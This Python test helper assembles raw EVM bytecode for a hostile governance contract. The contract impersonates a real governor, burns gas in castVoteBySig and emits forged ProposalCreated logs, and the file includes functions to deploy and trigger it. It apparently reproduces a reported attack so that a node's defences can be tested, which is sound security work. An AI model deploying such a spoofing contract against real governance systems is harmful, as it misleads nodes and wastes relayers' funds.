"""A hostile "governor" for the tests, as raw EVM code (no compiler needed): it answers every view a
naive node would ask as a real keyreg governor would (``registry()`` is the real registry,
``name()`` a DAO name, ``hasVoted`` false, ``state`` Active, everything else 1), burns
``burn_iterations`` loop turns (~26 gas each) in ``castVoteBySig`` and then succeeds, and emits
whatever log data it is called with under the ``ProposalCreated`` topic (selector 0x00000001).
This is the attack of issue 13 findings 1 and 2.
"""

from __future__ import annotations

from typing import Any

from web3 import Web3

from keyreg.core.hashing import keccak
from keyreg.gov.contracts import transact

EMIT_SELECTOR = bytes.fromhex("00000001")
PROPOSAL_CREATED = keccak(
    b"ProposalCreated(uint256,address,address[],uint256[],string[],bytes[],uint256,uint256,string)"
)

_OP = {"STOP": 0x00, "SUB": 0x03, "EQ": 0x14, "SHR": 0x1C, "CALLDATALOAD": 0x35, "CALLDATASIZE": 0x36,
       "CALLDATACOPY": 0x37, "CODECOPY": 0x39, "MSTORE": 0x52, "JUMPI": 0x57, "JUMPDEST": 0x5B, "DUP1": 0x80,
       "SWAP1": 0x90, "LOG1": 0xA1, "RETURN": 0xF3}  # fmt: skip


def _selector(signature: str) -> bytes:
    return keccak(signature.encode())[:4]


def _assemble(program: list[Any]) -> bytes:
    """Ops are names, ("PUSH", bytes) or ("PUSHL", label) (2-byte), labels are ("LABEL", name)."""

    def size(item: Any) -> int:
        if isinstance(item, str):
            return 1
        if item[0] == "PUSH":
            return 1 + len(item[1])
        if item[0] == "PUSHL":
            return 3
        return 1  # LABEL -> JUMPDEST

    labels, pc = {}, 0
    for item in program:
        if isinstance(item, tuple) and item[0] == "LABEL":
            labels[item[1]] = pc
        pc += size(item)
    out = bytearray()
    for item in program:
        if isinstance(item, str):
            out.append(_OP[item])
        elif item[0] == "PUSH":
            out.append(0x5F + len(item[1]))
            out += item[1]
        elif item[0] == "PUSHL":
            out.append(0x61)
            out += labels[item[1]].to_bytes(2, "big")
        else:
            out.append(_OP["JUMPDEST"])
    return bytes(out)


def runtime_code(registry: str, name: str = "keyreg DAO", burn_iterations: int = 80_000) -> bytes:
    name_bytes = name.encode()
    assert len(name_bytes) <= 32

    def ret_word() -> list[Any]:
        return [("PUSH", b"\x00"), "MSTORE", ("PUSH", b"\x20"), ("PUSH", b"\x00"), "RETURN"]

    def branch(signature: bytes, label: str) -> list[Any]:
        return ["DUP1", ("PUSH", signature), "EQ", ("PUSHL", label), "JUMPI"]

    program: list[Any] = [
        ("PUSH", b"\x00"), "CALLDATALOAD", ("PUSH", b"\xe0"), "SHR",
        *branch(_selector("castVoteBySig(uint256,uint8,address,bytes)"), "burn"),
        *branch(_selector("name()"), "name"),
        *branch(_selector("hasVoted(uint256,address)"), "zero"),
        *branch(_selector("registry()"), "registry"),
        *branch(EMIT_SELECTOR, "emit"),
        ("PUSH", b"\x01"), *ret_word(),
        ("LABEL", "zero"), ("PUSH", b"\x00"), *ret_word(),
        ("LABEL", "registry"), ("PUSH", bytes.fromhex(registry[2:])), *ret_word(),
        ("LABEL", "name"), ("PUSH", b"\x20"), ("PUSH", b"\x00"), "MSTORE",
        ("PUSH", bytes([len(name_bytes)])), ("PUSH", b"\x20"), "MSTORE",
        ("PUSH", name_bytes.ljust(32, b"\x00")), ("PUSH", b"\x40"), "MSTORE",
        ("PUSH", b"\x60"), ("PUSH", b"\x00"), "RETURN",
        ("LABEL", "burn"), ("PUSH", burn_iterations.to_bytes(3, "big")),
        ("LABEL", "loop"), ("PUSH", b"\x01"), "SWAP1", "SUB", "DUP1", ("PUSHL", "loop"), "JUMPI", "STOP",
        ("LABEL", "emit"), ("PUSH", b"\x04"), "CALLDATASIZE", "SUB", ("PUSH", b"\x04"), ("PUSH", b"\x00"),
        "CALLDATACOPY", ("PUSH", PROPOSAL_CREATED), ("PUSH", b"\x04"), "CALLDATASIZE", "SUB", ("PUSH", b"\x00"),
        "LOG1", "STOP",
    ]  # fmt: skip
    return _assemble(program)


def deploy_attacker(w3: Web3, key: bytes, registry: str, **kw: Any) -> str:
    """Deploy the hostile governor; returns its address."""
    runtime = runtime_code(registry, **kw)
    n = len(runtime).to_bytes(2, "big")
    # initcode (12 bytes): PUSH2 n DUP1 PUSH1 12 PUSH1 0 CODECOPY PUSH1 0 RETURN, then the runtime
    init = bytes([0x61, *n, 0x80, 0x60, 12, 0x60, 0, 0x39, 0x60, 0, 0xF3]) + runtime
    contract = w3.eth.contract(abi=[], bytecode=init)
    receipt = transact(w3, key, contract.constructor(), "deploy attacker")
    return str(receipt["contractAddress"])


def emit_log(w3: Web3, key: bytes, attacker: str, data: bytes) -> dict[str, Any]:
    """Make the attacker emit a ProposalCreated-topic log with ``data``."""
    account = w3.eth.account.from_key(key)
    tx = {"from": account.address, "to": attacker, "data": EMIT_SELECTOR + data, "gas": 200_000,
          "nonce": w3.eth.get_transaction_count(account.address, "pending"), "chainId": w3.eth.chain_id,
          "maxFeePerGas": 10**10, "maxPriorityFeePerGas": 10**9}  # fmt: skip
    signed = account.sign_transaction(tx)
    receipt = w3.eth.wait_for_transaction_receipt(w3.eth.send_raw_transaction(signed.raw_transaction), timeout=10)
    assert receipt["status"] == 1
    return dict(receipt)
